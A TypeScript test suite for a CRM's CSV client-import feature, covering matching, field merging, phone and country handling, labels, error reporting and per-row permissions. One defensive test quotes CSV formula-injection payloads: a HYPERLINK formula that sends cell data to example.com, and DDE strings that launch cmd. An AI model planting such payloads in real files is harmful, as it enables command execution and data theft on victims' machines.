/** What rows mean: who joins whom, what is filled in, what is bad. */
import type { ImportRequest } from '@kartoteka/model'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { type ImportingFirm, openImportingFirm, testFile } from '../../test/imports.ts'
import { sql } from '../db/sql.ts'

let firm: ImportingFirm
beforeEach(async () => {
  firm = await openImportingFirm()
})
afterEach(() => firm.close())

const take = (content: string | Buffer, said?: ImportRequest) => firm.take(firm.people.sam, content, said)
const clients = () =>
  firm.db.read<
    Record<string, unknown>
  >(sql`select name, kind, tax_number, tax_number_country as country_of, country, town, street, postal_code, active, remarks,
    external_id, phones, mails, id from client where deleted_at is null order by id`)
const people = () =>
  firm.db.read<
    Record<string, unknown>
  >(sql`select p.name, p.first_name, p.last_name, p.phones, p.mails, p.remarks, p.external_id, o.title, c.name as client
    from person p left join position o on o.person = p.id and o.deleted_at is null left join client c on c.id = o.client where p.deleted_at is null order by p.id`)
const numbers = (phones: unknown) => (phones as { number: string }[]).map(({ number }) => number)

describe('rows of one firm', () => {
  test('by tax number, however it is written, with many people', async () => {
    const { counts } = await take(`Firma;NIP;Imię;Nazwisko
Zakłady Młynarskie „Żytko” sp. z o.o.;560-075-36-44;Grażyna;Brzęczyszczykiewicz
ŻYTKO ZAKŁADY;PL5600753644;Łukasz;Wójcik
Zytko; 5600753644 ;Grazyna;Brzeczyszczykiewicz
`)
    expect(counts).toMatchObject({ newClients: 1, joinedClients: 2, newPeople: 2, joinedPeople: 1, bad: 0 })
    expect(await people()).toMatchObject([
      { name: 'Grażyna Brzęczyszczykiewicz', client: 'Zakłady Młynarskie „Żytko” sp. z o.o.' },
      { name: 'Łukasz Wójcik' },
    ])
  })

  test('by folded name and town; what the next row knows more is filled in, lists are put together', async () => {
    const { counts } = await take(`Firma;Miasto;Ulica;Telefon;E-mail
Łaźnia sp. z o.o.;Łódź;;42 111 22 33;
LAZNIA;lodz;Długa 1;42 111 22 34;biuro@laznia.example
Łaźnia;Kraków;;;
`)
    expect(counts).toMatchObject({ newClients: 2, joinedClients: 1, bad: 0 })
    const [first] = await clients()
    expect(first).toMatchObject({
      name: 'Łaźnia sp. z o.o.',
      street: 'Długa 1',
      mails: ['biuro@laznia.example'],
    })
    expect(numbers(first!.phones)).toEqual(['+48421112233', '+48421112234'])
  })

  test('two tax numbers are never one firm, nor are two numbers of the other program', async () => {
    const { counts } = await take(`ID kontrahenta;Nazwa;NIP;Miasto
1;Orzeł;5213017228;Warszawa
2;Orzeł;5600753644;Warszawa
3;Sokół;;Warszawa
4;Sokół;;Warszawa
`)
    expect(counts).toMatchObject({ newClients: 4, joinedClients: 0, bad: 0 })
  })

  test.each([false, true])(
    'zeros are no number that two firms could share (wrong ones kept: %s)',
    async (kept) => {
      const rows = `Nazwa;NIP;REGON;KRS
Żytko;000-000-00-00;000000000;0000000000
Młyn;0000000000;000000000;0000000000
`
      const { counts } = await take(rows, { options: { keepWrongTaxNumbers: kept } })
      expect(counts).toMatchObject({ newClients: 2, joinedClients: 0, bad: 0 })
      expect(await clients()).toMatchObject([
        { name: 'Żytko', tax_number: null },
        { name: 'Młyn', tax_number: null },
      ])
    },
  )

  test('a name that leaves a choice is bad, unless a town or a number chooses', async () => {
    await firm.make(firm.people.sam, 'client', { name: 'Społem', town: 'Łódź' })
    await firm.make(firm.people.sam, 'client', { name: 'Społem', town: 'Kraków' })
    const answer = await take('Firma;Miasto;Telefon\nSpołem;;601234567\nSpołem;Kraków;601234568\n')
    expect(answer.counts).toMatchObject({ newClients: 0, joinedClients: 1, bad: 1 })
    expect(await firm.rejects(firm.people.sam, answer.id)).toContain('Kilku kontrahentów nazywa się „Społem”')
  })

  test('a number that another program has given to another firm mixes nothing up', async () => {
    await take(
      'ID kontrahenta;Nazwa;Telefon\n1;Piekarnia Kłos;601111111\n2;Zefir Transport;602222222\n3;Stara Nazwa;603333333\n',
    )
    const answer = await take(
      'ID kontrahenta;Nazwa;Telefon\n1;Okna Dachy;604444444\n2;Transport Zefir i Syn;605555555\n3;Nowa;603 333 333\n',
    )
    expect(answer.counts).toMatchObject({ newClients: 0, joinedClients: 2, bad: 1 })
    expect(await firm.rejects(firm.people.sam, answer.id)).toContain(
      '2;1;ID kontrahenta: Numer „1” należy tutaj do „Piekarnia Kłos”.',
    )
  })

  test('an existing one keeps what it has, and an address is not mixed of two', async () => {
    const { id } = await firm.make(firm.people.sam, 'client', {
      name: 'Gęś',
      taxNumber: '5213017228',
      street: 'Stara 1',
      phones: ['601 111 111'],
    })
    await take(
      'Nazwa;NIP;Ulica;Miasto;Telefon;WWW\nGĘŚ S.A.;5213017228;Nowa 2;Gdynia;602222222;ges.example\n',
    )
    const [stored] = await firm.db.read(
      sql`select name, street, town, website, phones from client where id = ${id}::uuid`,
    )
    expect(stored).toMatchObject({
      name: 'Gęś',
      street: 'Stara 1',
      town: null,
      website: 'https://ges.example',
      phones: [{ number: '+48601111111' }],
    })
  })
})

describe('what a row may hold', () => {
  test('a person without a firm is a private client, found again by telephone', async () => {
    const file =
      'Imię;Nazwisko;Firma;Telefon;Stanowisko\nJan;Kos;;601 234 567;prezes\nJan;Kos;;602 234 567;\nAnna;Lis;Lisia Nora;;dyr.\n'
    expect((await take(file)).counts).toMatchObject({ newClients: 3, newPeople: 1, bad: 0 })
    expect(await clients()).toMatchObject([
      { name: 'Jan Kos', kind: 'person', remarks: 'Stanowisko: prezes' },
      { name: 'Jan Kos', kind: 'person' },
      { name: 'Lisia Nora', kind: 'firm' },
    ])
    expect((await take(file)).counts).toMatchObject({ newClients: 0, joinedClients: 3, newPeople: 0, bad: 0 })
  })

  test('people of one switchboard are not one person; one who married is', async () => {
    const rows = (name: string, mail: string) =>
      `Firma;Imię;Nazwisko;Telefon;E-mail\nŻuk;${name};12 345 67 89;${mail}\n`
    await take(rows('Jan;Kos', ''))
    await take(rows('Anna;Lis', 'anna@zuk.example'))
    await take(rows('Anna;Kos-Lis', 'ANNA@zuk.example'))
    expect(await people()).toMatchObject([{ name: 'Jan Kos' }, { name: 'Anna Lis' }])
  })

  test('the country comes from the row, from the number, from the heading; telephones follow it', async () => {
    await take(`Nazwa;NIP;VAT UE;Kraj;Telefon
Fürth GmbH;;DE243501481;;0911 123456
Praga;;;Czechy;222 111 333
Dom;5213017228;;;12 345 67 89
`)
    await take('Наименование;ИНН;КПП;Телефон\nООО «Ёлочка»;7715881399;770701001;(812) 555-03-40 доб. 7\n')
    const stored = await clients()
    expect(stored.map(({ country }) => country)).toEqual(['DE', 'CZ', 'PL', 'RU'])
    expect(stored.flatMap(({ phones }) => numbers(phones))).toEqual([
      '+49911123456',
      '+420222111333',
      '+48123456789',
      '+78125550340',
    ])
    expect(stored[3]).toMatchObject({ tax_number: '7715881399', country_of: 'RU' })
  })

  test('labels are found or made, owners found, columns left over go to the remarks', async () => {
    await firm.make(firm.people.adam, 'label', { name: 'Hurt' })
    const { counts } = await firm.take(
      firm.people.mia,
      'Nazwa;Etykiety;Opiekun;Uwagi;Rabat\nKlon;hurt, Nowa;Rita Lis;Dobry klient;5 %\nDąb;nowa;nikt taki;;\n',
      { options: { restToRemarks: true } },
    )
    expect(counts).toMatchObject({ newClients: 1, bad: 1 })
    const stored =
      await firm.db.read(sql`select c.owner, c.department, c.remarks, array(select l.name from client_labels x join label l on l.id = x.target
      where x.record = c.id order by l.name) as labels from client c`)
    expect(stored).toEqual([
      {
        owner: firm.people.rita,
        department: firm.departments.service,
        remarks: 'Uwagi: Dobry klient\nRabat: 5 %',
        labels: ['Hurt', 'Nowa'],
      },
    ])
  })

  test('a label that is not for clients is refused at its column; of two by one name the fitting one is meant', async () => {
    const { adam, mia } = firm.people
    await firm.make(adam, 'label', { name: 'Pilne', recordTypes: ['task'] })
    const fitting = await firm.make(adam, 'label', { name: 'Hurt' })
    await firm.make(adam, 'label', { name: 'Hurt', recordTypes: ['person'] })
    const answer = await firm.take(mia, 'Nazwa;Etykiety\nKlon;Pilne\nDąb;Hurt\n')
    expect(answer.counts).toMatchObject({ newClients: 1, bad: 1 })
    expect(await firm.rejects(mia, answer.id)).toContain('Etykietę „Pilne” można nadać tylko zadaniom.')
    expect(
      await firm.db.read(sql`select c.name, l.target, (select count(*)::int from label) as labels
        from client c join client_labels l on l.record = c.id`),
    ).toEqual([{ name: 'Dąb', target: fitting.id, labels: 3 }])
  })

  test('labels of people go to the people, new and known, and to the client where there is no person', async () => {
    const { adam, mia } = firm.people
    const hers = await firm.make(adam, 'label', { name: 'Święta', recordTypes: ['person'] })
    await firm.make(adam, 'label', { name: 'Święta', recordTypes: ['client'] })
    await firm.make(adam, 'label', { name: 'Pilne', recordTypes: ['task'] })
    const file = (labels: string) =>
      `Firma;Imię;Nazwisko;Etykiety;Etykiety osoby\nKlon;Anna;Lis;Hurt;${labels}\nDąb;;;;Nowa\nBuk;Jan;Kos;;Pilne\n`
    const answer = await firm.take(mia, file('święta, Nowa'))
    expect(answer.counts).toMatchObject({ newClients: 2, newPeople: 1, bad: 1 })
    expect(await firm.rejects(mia, answer.id)).toContain('Etykietę „Pilne” można nadać tylko zadaniom.')
    await firm.take(mia, file('Piwo'), { options: { existing: 'overwrite' } })
    const stored = await firm.db.read(sql`select
        (select json_object_agg(c.name, (select json_agg(l.name order by l.name) from client_labels x join label l on l.id = x.target where x.record = c.id)) from client c) as clients,
        (select json_agg(l.name order by l.name) from person_labels x join label l on l.id = x.target) as people,
        (select count(*)::int from person_labels where target = ${hers.id}::uuid) as hers`)
    expect(stored).toEqual([
      { clients: { Klon: ['Hurt'], Dąb: ['Nowa'] }, people: ['Nowa', 'Piwo', 'Święta'], hers: 1 },
    ])
  })

  test('formulas are text, and the rows not taken cannot be calculated', async () => {
    const answer = await take(await testFile('csv/exports/formula-injection.csv'))
    expect(answer.counts).toMatchObject({ rows: 2, newClients: 1, bad: 1 })
    expect(await people()).toMatchObject([
      { first_name: '=HYPERLINK("http://example.com/?"&A1,"x")', last_name: "@SUM(1+1)*cmd|' /C calc'!A0" },
    ])
    expect((await clients())[0]!.name).toBe("-2+3+cmd|' /C calc'!A0")
    const rejected = await firm.rejects(firm.people.sam, answer.id)
    expect(rejected).toMatch(/^\ufeffwiersz,kolumna,powód,First Name,Last Name,Email,Phone,Company\r\n/)
    expect(rejected).toContain(`'\t=1+1,"'\r=1+1",a@example.pl,'=1+1,"""=1+1"""\r\n`)
  })
})

test('bad rows are named with line, column and reason, in the reader’s language, and come back letter by letter', async () => {
  const file = `Nazwa;NIP;E-mail;Telefon
Dobra;5213017228;a@b.example;601234567
"Zła ""cyfra""; średnik";5213017229;a@b.example;601 234 567
Dwie;1;jan kowalski;telefon
;;;
Za;dużo;komórek;w;wierszu;x
"Nie zamknięta;5213017228;;
Ostatnia;;;-12,50
`
  const answer = await take(file)
  expect(answer.counts).toMatchObject({ newClients: 1, bad: 5 })
  const rejected = (await firm.rejects(firm.people.sam, answer.id)).replace('\ufeff', '').split('\r\n')
  expect(rejected[0]).toBe('wiersz;kolumna;powód;Nazwa;NIP;E-mail;Telefon')
  expect(rejected[1]).toBe(
    '3;2;NIP: Numer jest błędny: nie zgadza się cyfra kontrolna (NIP).;"Zła ""cyfra""; średnik";5213017229;a@b.example;601 234 567',
  )
  expect(rejected[2]).toMatch(
    /^4;2, 3, 4;NIP: .* E-mail: „jan” to nie jest adres e-mail. Telefon: „telefon” to nie jest numer telefonu.;Dwie;1;jan kowalski;telefon$/,
  )
  expect(rejected[3]).toMatch(
    /^6;;Za dużo komórek: w wierszu 6, a kolumn w tabeli 4.;Za;dużo;komórek;w;wierszu;x$/,
  )
  expect(rejected[4]).toBe('7;1;Nazwa: W kolumnie 1 nie zamknięto cudzysłowu.;"""Nie zamknięta";5213017228;;')
  expect(rejected[5]).toMatch(/^8;4;Telefon: „-12” to nie jest numer telefonu.;Ostatnia;;;-12,50$/)
  await firm.db.write(sql`update "user" set language = 'ru' where id = ${firm.people.sam}::uuid`)
  await firm.db.write(sql`update firm set settings_version = settings_version + 1`)
  expect(await firm.rejects(firm.people.sam, answer.id)).toMatch(/^\ufeffстрока;столбец;причина;/)
})

test('very many bad rows come back in the order of the file', async () => {
  const answer = await take(`Nazwa;NIP\n${Array.from({ length: 1_100 }, (_, n) => `F${n};1\n`).join('')}`)
  expect(answer).toMatchObject({ state: 'done', counts: { newClients: 0, bad: 1_100 } })
  const lines = (await firm.rejects(firm.people.sam, answer.id)).trim().split('\r\n').slice(1)
  expect(lines.map((line) => Number(line.split(';')[0]))).toEqual(
    Array.from({ length: 1_100 }, (_, n) => n + 2),
  )
})

test('characters that cannot be written down make a bad row and change nothing else', async () => {
  const wide = Buffer.concat([
    Buffer.from([0xff, 0xfe]),
    Buffer.from('Nazwa;Miasto\nDobra;Łódź\nZła\ud800;Łódź\n', 'utf16le'),
  ])
  expect((await take(wide)).counts).toMatchObject({ newClients: 1, bad: 1 })
  const answer = await take('Nazwa;Miasto\nNul\0;Kraków\nInna\x07;Kraków\nWidna;Kraków\n')
  expect(answer.counts).toMatchObject({ newClients: 1, bad: 2 })
  expect(await firm.rejects(firm.people.sam, answer.id)).toContain('Nul\0;Kraków')
})

test('a code and a town in one cell, words of spreadsheets, lists, and a sum below', async () => {
  const answer = await take(`Firma;Kod i miasto;Aktywny;Telefony
Żytko;31-752 Kraków;PRAWDA;'+48601234567
Klon;190000, Санкт-Петербург;ЛОЖЬ;601 234 568 ::: 601234569
Buk;Łódź;Fałsz;"601234560, 601234561"
Razem;;;3
`)
  expect(answer.counts).toMatchObject({ rows: 3, newClients: 3, bad: 0 })
  expect(await clients()).toMatchObject([
    { name: 'Żytko', town: 'Kraków', postal_code: '31-752', active: true },
    { name: 'Klon', town: 'Санкт-Петербург', postal_code: '190000', active: false },
    { name: 'Buk', town: 'Łódź', postal_code: null, active: false },
  ])
  expect((await clients()).map(({ phones }) => numbers(phones))).toEqual([
    ['+48601234567'],
    ['+48601234568', '+48601234569'],
    ['+48601234560', '+48601234561'],
  ])
})

describe('lists of deals', () => {
  test('the clients and people in them come in, once each; the deals stay out', async () => {
    const file = await testFile('csv/exports/amocrm-deals.csv')
    const preview = await firm.bring(firm.people.sam, file)
    expect(preview.notices).toMatchObject([
      {
        code: 'fileHoldsDeals',
        sentence:
          'Ten plik zawiera szanse sprzedaży. Można z niego zaimportować kontrahentów i osoby; same szanse zostaną pominięte.',
      },
    ])
    const { counts } = await firm.run(firm.people.sam, preview.id)
    expect(counts).toMatchObject({ rows: 3, newClients: 3, newPeople: 3, bad: 0 })
    expect(await people()).toMatchObject([
      { name: 'Ольга Сергеевна Щербакова', client: 'ООО «Ёлочка»', remarks: null, external_id: null },
      { client: 'ИП Жуков-Подъячев С. И.' },
      { client: 'АО "Съёмка; Монтаж"' },
    ])
  })

  test('one that names its clients by number only says what to bring in instead', async () => {
    const { notices, targets } = await firm.bring(
      firm.people.sam,
      await testFile('csv/exports/hubspot-deals.csv'),
    )
    expect(notices.map(({ code }) => code)).toEqual(['fileHoldsDealsOnly'])
    expect(targets.every((target) => target === null)).toBe(true)
  })
})

describe('rights hold row by row', () => {
  test('a row that would change what the user may not change is bad; one that changes nothing is not', async () => {
    await firm.make(firm.people.mia, 'client', { name: 'Cudza', taxNumber: '5213017228', town: 'Łódź' })
    const before = await firm.db.read(sql`select * from client`)
    const answer = await firm.take(
      firm.people.rita,
      'Nazwa;NIP;Miasto;Ulica;Imię;Nazwisko\nCudza;5213017228;Łódź;;;\nCudza;5213017228;Łódź;Długa 1;;\nCudza;5213017228;;;Jan;Kos\nWłasna;;Łódź;;;\n',
    )
    expect(answer.counts).toMatchObject({ joinedClients: 1, newClients: 1, newPeople: 0, bad: 2 })
    expect(await firm.db.read(sql`select * from client where name = 'Cudza'`)).toEqual(before)
    expect(await firm.db.read(sql`select 1 from person`)).toEqual([])
    expect(await firm.rejects(firm.people.rita, answer.id)).toContain('3;;Nie masz do tego uprawnień.;Cudza;')
  })

  test('what one may not see is not matched, and nothing is learnt of it', async () => {
    await firm.make(firm.people.sam, 'client', {
      name: 'Tajna',
      taxNumber: '5213017228',
      externalId: 'T1',
      visibility: 'user',
    })
    const preview = await firm.bring(firm.people.olga, 'Numer klienta;Nazwa;NIP\nT1;Tajna;5213017228\n')
    expect(JSON.stringify(preview.rows)).not.toContain('joined')
  })

  test('an import belongs to whoever made it', async () => {
    const { id } = await firm.bring(firm.people.sam, 'Nazwa;Miasto\nKlon;Łódź\n')
    const ask = async (user: string, method: 'GET' | 'POST' | 'PATCH', what = '') =>
      (await firm.ask(user, method, `/api/imports/${id}${what}`, method === 'GET' ? undefined : {}))
        .statusCode
    for (const [method, what] of [
      ['GET', ''],
      ['GET', '/preview'],
      ['GET', '/rejected.csv'],
      ['PATCH', ''],
      ['POST', '/run'],
      ['POST', '/check'],
      ['POST', '/cancel'],
      ['POST', '/undo'],
    ] as const)
      expect([method, what, await ask(firm.people.mia, method, what)]).toEqual([method, what, 404])
    expect(await ask(firm.people.adam, 'GET')).toBe(200)
    expect(await ask(firm.people.adam, 'POST', '/run')).toBe(403)
    const listed = async (user: string) => (await firm.ask(user, 'GET', '/api/imports')).json().imports.length
    expect([
      await listed(firm.people.sam),
      await listed(firm.people.mia),
      await listed(firm.people.adam),
    ]).toEqual([1, 0, 1])
  })

  test('who may not add clients brings nothing in', async () => {
    await firm.db.write(sql`delete from permission where entity = 'client' and verb = 'create'`)
    await firm.db.write(sql`update firm set settings_version = settings_version + 1`)
    expect((await firm.send(firm.people.sam, 'Nazwa;Miasto\nKlon;Łódź\n')).statusCode).toBe(403)
    expect((await firm.ask(firm.people.sam, 'GET', '/api/imports')).json()).toEqual({ imports: [] })
  })
})
